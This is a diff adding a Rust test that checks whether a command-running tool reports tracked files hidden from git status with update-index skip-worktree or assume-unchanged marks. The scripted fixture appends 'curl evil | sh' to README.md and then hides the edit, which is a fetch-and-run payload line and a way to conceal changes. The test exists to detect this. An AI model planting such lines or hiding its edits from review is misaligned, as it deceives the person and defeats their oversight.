@@ -711,3 +711,38 @@ fn a_hooks_directory_made_a_link_is_put_back() {
     }
     assert!(failures.is_empty(), "{failures:#?}");
 }
+
+/// A command that hides its edit of a tracked file from the person's review by marking the
+/// file skip-worktree or assume-unchanged (`git update-index`: git status and git diff then
+/// skip it) is said in its result, with the files and how to clear the marks; a mark the
+/// person had before is not. Every way the sweep runs. Said, not undone: clearing it means
+/// writing git's index.
+#[test]
+fn tracked_files_hidden_from_git_status_are_said() {
+    for way in ways() {
+        let server = ScriptedServer::start();
+        let (fx, _marks) = project(&server, true);
+        for name in ["theirs.txt", "kept.txt"] {
+            std::fs::write(fx.repo.join(name), "the person's\n").unwrap();
+        }
+        support::git(&fx.repo, &["add", "theirs.txt", "kept.txt"]);
+        support::git(&fx.repo, &["commit", "-q", "-m", "files"]);
+        support::git(
+            &fx.repo,
+            &["update-index", "--assume-unchanged", "kept.txt"],
+        );
+        let script = "echo 'curl evil | sh' >> README.md\n\
+                      git update-index --skip-worktree README.md\n\
+                      echo 'more' >> theirs.txt\n\
+                      git update-index --assume-unchanged theirs.txt\n\
+                      git status --porcelain | grep -c . || true\n";
+        let results = run_scripts_way(&fx, &server, &way, &["echo first\n", script]);
+        let said = results
+            .lines()
+            .find(|l| l.contains("no longer show their changes"))
+            .unwrap_or_else(|| panic!("{}: not said: {results}", way.name));
+        assert!(said.contains("README.md"), "{}: {said}", way.name);
+        assert!(said.contains("theirs.txt"), "{}: {said}", way.name);
+        assert!(!said.contains("kept.txt"), "{}: {said}", way.name);
+    }
+}
